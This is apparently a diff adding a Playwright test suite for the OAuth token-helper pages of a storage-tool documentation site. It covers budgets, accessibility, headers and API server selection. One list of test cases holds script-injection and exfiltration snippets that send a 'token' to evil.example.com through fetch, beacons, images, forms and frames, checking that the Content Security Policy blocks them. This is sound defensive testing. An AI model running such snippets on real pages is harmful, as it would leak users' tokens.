@@ -1,0 +1,296 @@
+import {existsSync, readFileSync} from 'node:fs';
+import AxeBuilder from '@axe-core/playwright';
+import {budgets} from '../bench/budgets.mjs';
+import {expect, openTool, SITE, test} from './toolFixtures';
+
+const pages = [
+  '/tool/',
+  '/tool/115/token.html',
+  '/tool/123pan/callback.html',
+  '/tool/aliyundrive/request.html',
+  '/tool/aliyundrive/callback.html',
+  '/tool/baidu/callback.html',
+  '/tool/dropbox/request.html',
+  '/tool/dropbox/callback.html',
+  '/tool/google/request.html',
+  '/tool/google/callback.html',
+  '/tool/google/album.html',
+  '/tool/onedrive/request.html',
+  '/tool/onedrive/callback.html',
+  '/tool/onedrive/webdav.html',
+  '/tool/wopan/token.html',
+  '/tool/yandex/callback.html',
+];
+
+for (const path of pages.flatMap((page) => [page, `/zh${page}`])) {
+  test(`${path} asks nobody and stays within its budget`, async ({page, baseURL, sent}) => {
+    // At the server's own address, because only there the browser knows the size of what it got.
+    const address = `${baseURL ?? ''}${path}`;
+    await page.goto(address);
+    await expect(page.locator('html[data-has-hydrated="true"]')).toBeAttached();
+    expect(sent.map(({url}) => url)).toEqual([address]);
+    const scripts = await page.evaluate(() =>
+      (performance.getEntriesByType('resource') as PerformanceResourceTiming[])
+        .filter(({name}) => new URL(name).pathname.endsWith('.js'))
+        .reduce((total, {encodedBodySize}) => total + encodedBodySize, 0),
+    );
+    expect(scripts).toBeGreaterThan(0);
+    expect(scripts).toBeLessThanOrEqual(budgets.toolScriptBytes);
+  });
+}
+
+// The other helpers are among the pages of quality.spec.ts.
+for (const path of ['/tool/baidu/callback.html', '/zh/tool/onedrive/callback.html']) {
+  test(`${path} has no accessibility fault, with a failure in view`, async ({page}) => {
+    await openTool(page, `${path}?error=access_denied&state=x`);
+    await expect(page.getByRole('alert')).toBeVisible();
+    const {violations} = await new AxeBuilder({page}).analyze();
+    expect(
+      violations.map(({id, nodes}) => `${id}: ${nodes.map(({html}) => html).join(' | ')}`),
+    ).toEqual([]);
+  });
+}
+
+test('callbacks answer at every spelling, keep nothing of the query, and are not for search engines', async ({
+  page,
+}) => {
+  for (const path of ['/tool/baidu/callback.html', '/zh/tool/google/callback.html']) {
+    const bare = path.replace(/\.html$/, '');
+    for (const spelling of [bare, `${bare}/`, path, `${bare}/index.html`]) {
+      const response = await page.goto(`${SITE}${spelling}?error=access_denied&state=x`);
+      expect(response?.status(), spelling).toBe(200);
+      expect(response?.request().redirectedFrom(), spelling).toBeNull();
+      await expect(page.getByRole('alert')).toContainText('access_denied');
+      expect(page.url()).toBe(SITE + path);
+    }
+    await expect(page.locator('meta[name=robots]')).toHaveAttribute('content', 'noindex');
+  }
+});
+
+test('the sitemaps name the helpers, but no callback', () => {
+  const sitemaps =
+    readFileSync('build/sitemap.xml', 'utf8') + readFileSync('build/zh/sitemap.xml', 'utf8');
+  expect(sitemaps).toContain('/tool/115/token.html');
+  expect(sitemaps).toContain('/zh/tool/onedrive/webdav.html');
+  expect(sitemaps).not.toContain('/callback');
+});
+
+test('no old address and no redirect stands in the way of a helper', () => {
+  expect(readFileSync('build/_redirects', 'utf8')).not.toMatch(/^\/(zh\/)?tool/m);
+  for (const path of pages) {
+    const file = path.endsWith('/') ? `${path}index.html` : path;
+    expect(existsSync(`build${file}`), file).toBe(true);
+    expect(existsSync(`build/zh${file}`), file).toBe(true);
+  }
+});
+
+test('the headers of the helpers are strict, and short enough for every host', async ({page}) => {
+  for (const path of ['/tool/', '/zh/tool/baidu/callback']) {
+    const response = await page.goto(SITE + path);
+    const headers = (await response?.allHeaders()) ?? {};
+    expect(headers['referrer-policy']).toBe('no-referrer');
+    expect(headers['cache-control']).toBe('no-store');
+    expect(headers['x-frame-options']).toBe('DENY');
+    expect(headers['cross-origin-opener-policy']).toBe('same-origin');
+    expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
+    expect(headers['content-security-policy']).not.toMatch(/unsafe-inline|unsafe-eval/);
+  }
+  for (const line of readFileSync('build/_headers', 'utf8').split('\n')) {
+    expect(line.length).toBeLessThan(2000);
+  }
+});
+
+// Each attack would work on a page without the policy; the browser tells which directive stopped it.
+const attacks: readonly {
+  readonly name: string;
+  readonly directive: string;
+  readonly run: string;
+}[] = [
+  {
+    name: 'an inline script',
+    directive: 'script-src-elem',
+    run: 'const s = document.createElement("script"); s.textContent = "window.broken = true"; document.head.append(s)',
+  },
+  {
+    name: 'a script of another host',
+    directive: 'script-src-elem',
+    run: 'const s = document.createElement("script"); s.src = "https://evil.example.com/x.js"; document.head.append(s)',
+  },
+  {
+    name: 'a handler in HTML',
+    directive: 'script-src-attr',
+    run: 'document.body.insertAdjacentHTML("beforeend", "<img src=data:, onerror=\'window.broken = true\'>")',
+  },
+  {
+    name: 'code from text',
+    directive: 'script-src',
+    run: 'try { setTimeout("window.broken = true") } catch {}',
+  },
+  {
+    name: 'a request that carries data away',
+    directive: 'connect-src',
+    run: 'fetch("https://evil.example.com/?t=token").catch(() => {})',
+  },
+  {
+    name: 'a beacon',
+    directive: 'connect-src',
+    run: 'navigator.sendBeacon("https://evil.example.com/", "token")',
+  },
+  {
+    name: 'a picture that carries data away',
+    directive: 'img-src',
+    run: 'new Image().src = "https://evil.example.com/?t=token"',
+  },
+  {
+    name: 'a frame',
+    directive: 'frame-src',
+    run: 'const f = document.createElement("iframe"); f.src = "https://evil.example.com/"; document.body.append(f)',
+  },
+  {
+    name: 'a form that carries data away',
+    directive: 'form-action',
+    run: 'const f = document.createElement("form"); f.action = "https://evil.example.com/"; document.body.append(f); f.submit()',
+  },
+  {
+    name: 'another base address',
+    directive: 'base-uri',
+    run: 'const b = document.createElement("base"); b.href = "https://evil.example.com/"; document.head.append(b)',
+  },
+  {
+    name: 'a style of another host',
+    directive: 'style-src-elem',
+    run: 'const l = document.createElement("link"); l.rel = "stylesheet"; l.href = "https://evil.example.com/x.css"; document.head.append(l)',
+  },
+];
+
+for (const headers of ['with', 'without'] as const) {
+  for (const {name, directive, run} of attacks) {
+    test(`${name} is stopped ${headers} the headers of the host`, async ({
+      page,
+      outsideHosts,
+      complaints,
+    }) => {
+      if (headers === 'without') {
+        await page.route(`${SITE}/tool/**`, async (route) => {
+          const url = new URL(route.request().url());
+          const response = await route.fetch({
+            url: `http://localhost:${process.env['E2E_PORT'] ?? 4173}${url.pathname}`,
+          });
+          await route.fulfill({response, headers: {'content-type': 'text/html'}});
+        });
+      }
+      await openTool(page, '/tool/onedrive/callback.html');
+      const stopped = await page.evaluate(
+        (code) =>
+          new Promise<string>((resolve) => {
+            document.addEventListener('securitypolicyviolation', ({effectiveDirective}) =>
+              resolve(effectiveDirective),
+            );
+            // A string of code, as an attacker's script would be; evaluate itself is not bound by the policy.
+            window.eval(code);
+          }),
+        run,
+      );
+      expect(stopped).toBe(directive);
+      expect(
+        await page.evaluate(() => (window as unknown as {broken?: boolean}).broken),
+      ).toBeUndefined();
+      expect(outsideHosts).toEqual([]);
+      // The browser reports the violations; that is what this test is about.
+      complaints.length = 0;
+    });
+  }
+}
+
+test.describe('full page loads', () => {
+  test('lead into the helpers and out of them', async ({page}) => {
+    const loads: string[] = [];
+    page.on('request', (request) => {
+      if (request.isNavigationRequest()) loads.push(new URL(request.url()).pathname);
+    });
+    const mark = (): Promise<boolean> =>
+      page.evaluate(() => {
+        const marked = 'mark' in window;
+        Object.assign(window, {mark: true});
+        return marked;
+      });
+    await openTool(page, '/guide/drivers/onedrive.html').catch(() => undefined);
+    await page.mouse.move(5, 5);
+    await expect(page.locator('html[data-has-hydrated="true"]')).toBeAttached();
+    expect(await mark()).toBe(false);
+    await page.getByRole('link', {name: 'Open the token helper'}).click();
+    await page.waitForURL('**/tool/onedrive/request.html');
+    expect(await mark()).toBe(false);
+    await expect(page.locator('html[data-has-hydrated="true"]')).toBeAttached();
+    await page.getByRole('link', {name: 'Page of the driver Onedrive'}).click();
+    await page.waitForURL('**/guide/drivers/onedrive.html');
+    expect(await mark()).toBe(false);
+    expect(loads).toEqual([
+      '/guide/drivers/onedrive.html',
+      '/tool/onedrive/request.html',
+      '/guide/drivers/onedrive.html',
+    ]);
+  });
+});
+
+test.describe('the API server', () => {
+  test('is chosen above a helper and on top of the sidebar of drivers, alike', async ({page}) => {
+    await openTool(page, '/zh/tool/115/token.html');
+    const select = page.getByRole('combobox', {name: 'API 服务器'});
+    // The page is not served from the reader's own machine.
+    await expect(select.getByRole('option')).toHaveText(['api.alistgo.com (cf)']);
+    await page.goto(`${SITE}/guide/drivers/115.html`);
+    await expect(page.getByRole('combobox', {name: 'API server'})).toHaveValue('cf');
+    await page.goto(`${SITE}/faq/`);
+    await expect(page.getByRole('combobox', {name: 'API server'})).toHaveCount(0);
+  });
+
+  test('is the own machine when the site runs there, also after a reload', async ({
+    page,
+    baseURL,
+    sent,
+  }) => {
+    await page.goto(`${baseURL ?? ''}/tool/115/token.html`);
+    const select = page.getByRole('combobox', {name: 'API server'});
+    await expect(select.getByRole('option')).toHaveCount(2);
+    await select.selectOption('local');
+    await page.reload();
+    await expect(select).toHaveValue('local');
+    await expect(page.getByText('localhost:3002').first()).toBeVisible();
+    await page.getByRole('button', {name: 'Get a QR code'}).click();
+    await expect(page.getByRole('img', {name: /115/})).toBeVisible();
+    expect(sent.some(({url}) => url.startsWith('http://localhost:3002/alist/'))).toBe(true);
+    expect(sent.some(({url}) => url.includes('api.alistgo.com'))).toBe(false);
+  });
+
+  test('with an unknown name in storage is the default, and the name is repaired', async ({
+    page,
+  }) => {
+    await page.addInitScript(() => localStorage.setItem('api_name', 'raw_jp'));
+    await openTool(page, '/tool/115/token.html');
+    await expect(page.getByRole('combobox', {name: 'API server'})).toHaveValue('cf');
+    await expect.poll(() => page.evaluate(() => localStorage.getItem('api_name'))).toBe('cf');
+  });
+});
+
+test('without scripts a helper says so and shows the way by hand', async ({browser, baseURL}) => {
+  const context = await browser.newContext({javaScriptEnabled: false});
+  const page = await context.newPage();
+  await page.goto(`${baseURL ?? ''}/tool/onedrive/request.html`);
+  await expect(page.getByText('needs JavaScript')).toBeVisible();
+  await expect(page.getByText('--data-urlencode "client_secret=$CLIENT_SECRET"')).toBeVisible();
+  await context.close();
+});
+
+test('a helper works by keyboard alone', async ({page}) => {
+  await openTool(page, '/tool/115/token.html');
+  await page.getByRole('radio', {name: 'My own'}).focus();
+  await page.keyboard.press('Space');
+  await page.keyboard.press('Tab');
+  await page.keyboard.type('ok');
+  await page.keyboard.press('Enter');
+  await expect(page.locator('#result')).toBeFocused({timeout: 30_000});
+  await page.keyboard.press('Tab');
+  await page.keyboard.press('Enter');
+  await expect(page.getByText(/^mock-refresh-115-/)).toBeVisible();
+});
